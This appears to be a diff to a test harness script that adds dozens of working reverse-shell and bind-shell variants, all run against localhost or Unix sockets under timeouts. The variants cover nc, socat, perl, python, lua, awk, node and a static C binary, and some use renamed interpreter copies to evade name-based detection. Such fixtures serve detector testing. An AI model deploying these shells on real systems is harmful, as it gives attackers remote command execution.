@@ -246,6 +246,7 @@ END
 server_nc() { orders | timeout 5 nc.openbsd -lU "$DIR/$SOCK"; }
 server_socat() { orders | timeout 5 socat - "UNIX-LISTEN:$DIR/$SOCK"; }
 listener() { orders | timeout 6 nc.openbsd -l 127.0.0.1 "$PORT"; }
+listener_twice() { orders | timeout 6 nc.openbsd -l 127.0.0.1 "$PORT" & sleep 0.3; wait; timeout 3 nc.openbsd -l 127.0.0.1 "$PORT"; }
 listener_tls() {
     openssl req -x509 -newkey rsa:2048 -nodes -keyout "$DIR/k" -out "$DIR/c" -days 1 -subj /CN=x 2>/dev/null
     orders | timeout 6 openssl s_server -quiet -key "$DIR/k" -cert "$DIR/c" -accept "127.0.0.1:$PORT"
@@ -476,6 +477,117 @@ for _ in range(3):
     line.sendall(record(1, b"\0\1\0\0\0\0\0\0") + record(4, params) + record(4, b"") + record(5, code) + record(5, b""))
     line.settimeout(2); print(line.recv(4096))
 END
+}
+
+# --- More shapes of the same: loops instead of shells, programs nobody knows, sockets without a stream.
+
+forward_shell() { # commands are written into the FIFO by whoever fetches them
+    mkfifo "$DIR/$FIFO"
+    timeout 5 sh -c "tail -f $DIR/$FIFO | sh >$DIR/o 2>&1" &
+    sleep 0.4
+    exec 5<>"/dev/tcp/127.0.0.1/$PORT"
+    timeout 3 head -3 <&5 >"$DIR/$FIFO"
+    sleep 0.5
+}
+
+curl_polled() {
+    mkfifo "$DIR/$FIFO"
+    sh <"$DIR/$FIFO" >"$DIR/o" 2>&1 &
+    sleep 0.3
+    for _ in 1 2 3; do curl -s "http://127.0.0.1:$PORT/c"; sleep 0.3; done >"$DIR/$FIFO"
+    wait
+}
+serves_commands() { cd "$DIR" && printf 'id\nuname -a\n' >c && timeout 5 $python -m http.server "$PORT" --bind 127.0.0.1; }
+
+looped() { # a FIFO, something that runs its lines, and a relay
+    mkfifo "$DIR/$FIFO"
+    timeout 5 "$@" <"$DIR/$FIFO" 2>&1 | timeout 5 nc.openbsd 127.0.0.1 "$PORT" >"$DIR/$FIFO"
+}
+lua_loop() { looped lua5.4 -e 'for line in io.lines() do os.execute(line) end'; }
+perl_loop() { looped perl -ne 'system $_'; }
+awk_loop() { looped awk '{system($0)}'; }
+xargs_loop() { looped xargs -I{} sh -c '{}'; }
+eval_loop() { looped bash -c 'while read -r line; do eval "$line"; done'; }
+python_loop() { looped $python -c 'import os, sys
+for line in sys.stdin: os.system(line)'; }
+busybox_loop() { looped busybox sh; }
+
+fifo_wrapped() {
+    mkfifo "$DIR/$FIFO"
+    setsid nice -n1 sh -i <"$DIR/$FIFO" 2>&1 | timeout 4 nc.openbsd 127.0.0.1 "$PORT" >"$DIR/$FIFO"
+}
+
+fifo_unknown_relay() { # the relay has no name that anybody knows
+    cp "$(command -v socat)" "$DIR/$TOOL"
+    mkfifo "$DIR/$FIFO"
+    sh -i <"$DIR/$FIFO" 2>&1 | timeout 4 "$DIR/$TOOL" - "TCP:127.0.0.1:$PORT" >"$DIR/$FIFO"
+}
+
+two_lines() { timeout 4 nc.openbsd 127.0.0.1 "$PORT" | sh | timeout 4 nc.openbsd 127.0.0.1 "$PORT"; }
+
+static_bind() {
+    cat >"$DIR/s.c" <<'END'
+#include <string.h>
+#include <sys/socket.h>
+#include <sys/un.h>
+#include <unistd.h>
+int main(int argc, char **argv) {
+    struct sockaddr_un at = {.sun_family = AF_UNIX};
+    strcpy(at.sun_path, argv[1]);
+    int server = socket(AF_UNIX, SOCK_STREAM, 0);
+    if (bind(server, (void *)&at, sizeof at) || listen(server, 1)) return 1;
+    int line = accept(server, 0, 0);
+    dup2(line, 0); dup2(line, 1); dup2(line, 2);
+    execl("/bin/sh", "sh", "-i", (char *)0);
+}
+END
+    gcc -static -o "$DIR/$TOOL" "$DIR/s.c" && "$DIR/$TOOL" "$DIR/$SOCK"
+}
+
+each_command() { # a copied interpreter runs each command by itself
+    cp "$(command -v perl)" "$DIR/$TOOL"
+    "$DIR/$TOOL" -MIO::Socket::UNIX -e '
+        my $server = IO::Socket::UNIX->new(Local => shift, Listen => 1) or die;
+        my $client = $server->accept;
+        while (<$client>) { last if /exit/; print $client `$_` }' "$DIR/$SOCK"
+}
+
+datagram_bind() { # TOOL is a copy of an interpreter
+    cp $python "$DIR/$TOOL"
+    timeout 5 "$DIR/$TOOL" - "$DIR/$SOCK" <<'END'
+import socket, subprocess, sys
+server = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM); server.bind(sys.argv[1]); server.settimeout(4)
+while (order := server.recv(999).decode().strip()) != "exit":
+    subprocess.call(["sh", "-c", order])
+END
+}
+client_datagram() {
+    sleep 1
+    $python - "$DIR/$SOCK" <<'END'
+import socket, sys, time
+line = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM); line.connect(sys.argv[1])
+for order in (b"id", b"uname -a", b"hostname", b"exit"):
+    line.send(order); time.sleep(0.3)
+END
+}
+
+unix_bind_exec() { timeout 4 socat "UNIX-LISTEN:$DIR/$SOCK" EXEC:/bin/sh; }
+unix_bind_system() { timeout 4 socat "UNIX-LISTEN:$DIR/$SOCK" SYSTEM:'exec bash -i'; }
+abstract_bind_socat() { timeout 4 socat "ABSTRACT-LISTEN:$SOCK" EXEC:/bin/bash; }
+
+unix_bind_node() {
+    timeout 5 node -e '
+        require("net").createServer(c => {
+            const shell = require("child_process").spawn("sh", ["-i"]);
+            c.pipe(shell.stdin); shell.stdout.pipe(c); shell.on("exit", () => process.exit());
+        }).listen(process.argv[1])' "$DIR/$SOCK"
+}
+
+unix_reverse_node() {
+    sleep 0.5
+    timeout 5 node -e '
+        const c = require("net").connect(process.argv[1]), shell = require("child_process").spawn("/bin/bash", ["-i"]);
+        c.pipe(shell.stdin); shell.stdout.pipe(c); shell.on("exit", () => process.exit())' "$DIR/$SOCK"
 }
 
 "$@"
